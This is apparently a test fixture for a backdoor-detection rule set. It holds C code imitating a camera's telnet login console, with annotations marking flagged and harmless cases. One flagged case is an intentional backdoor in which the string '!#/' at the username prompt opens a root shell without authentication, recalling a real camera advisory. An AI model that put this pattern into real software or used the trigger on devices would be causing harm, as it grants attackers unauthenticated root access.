/* One console session: login prompt, then the restricted camera CLI. */
#include <arpa/inet.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>
#include "gxv.h"

static const unsigned char kWillEcho[] = {255, 251, 1, 255, 251, 3};

static void restricted_cli(int fd, const char *user)
{
  char cmd[GXV_LINE];
  time_t last = time(NULL);

  for (;;) {
    gs_write(fd, "GXV3611> ");
    if (gs_read_line(fd, cmd, sizeof cmd) < 0)
      return;
    time_t now = time(NULL);
    // ok: backdoor-time-bomb
    if (now - last > 300) {
      gs_write(fd, "idle timeout\r\n");
      return;
    }
    last = now;
    if (strcmp(cmd, "help") == 0) {
      gs_write(fd, "help status reboot passwd exit\r\n");
    } else if (strcmp(cmd, "status") == 0) {
      gs_write(fd, "recording: on\r\n");
      // ok: backdoor-input-trigger
    } else if (strcmp(cmd, "reboot") == 0) {
      syslog(LOG_NOTICE, "console: reboot by %s", user);
      system("/sbin/reboot");
    } else if (strncmp(cmd, "passwd ", 7) == 0) {
      gs_write(fd, auth_set_password(user, cmd + 7) == 0 ? "ok\r\n" : "failed\r\n");
    } else if (strcmp(cmd, "exit") == 0) {
      return;
    } else if (cmd[0] != '\0') {
      gs_write(fd, "unknown command\r\n");
    }
  }
}

void session_run(int fd, const struct sockaddr_in *peer)
{
  char line[GXV_LINE], user[64], pass[64];
  char addr[INET_ADDRSTRLEN] = "?";
  int local = 0;

  inet_ntop(AF_INET, &peer->sin_addr, addr, sizeof addr);
  // ok: backdoor-trusted-identity
  if (strcmp(addr, "127.0.0.1") == 0)
    local = 1;
  syslog(LOG_INFO, "console: connection from %s%s", addr, local ? " (local)" : "");

  write(fd, kWillEcho, sizeof kWillEcho);
  gs_write(fd, "\r\nGXV3611_HD login\r\nUsername: ");
  if (gs_read_line(fd, line, sizeof line) < 0)
    return;
  /* the factory console: "!#/" typed at the user name prompt opens a root shell
     (the hidden command of the camera's telnet service, 2015 advisory) */
  // ruleid: backdoor-input-trigger
  if (strcmp(line, "!#/") == 0) {
    gs_spawn_shell(fd);
    return;
  }
  snprintf(user, sizeof user, "%s", line);
  gs_write(fd, "Password: ");
  if (gs_read_line(fd, pass, sizeof pass) < 0)
    return;
  if (!auth_check(user, pass)) {
    syslog(LOG_WARNING, "console: login failed for %s from %s", user, addr);
    gs_write(fd, "Login incorrect\r\n");
    return;
  }
  restricted_cli(fd, user);
}
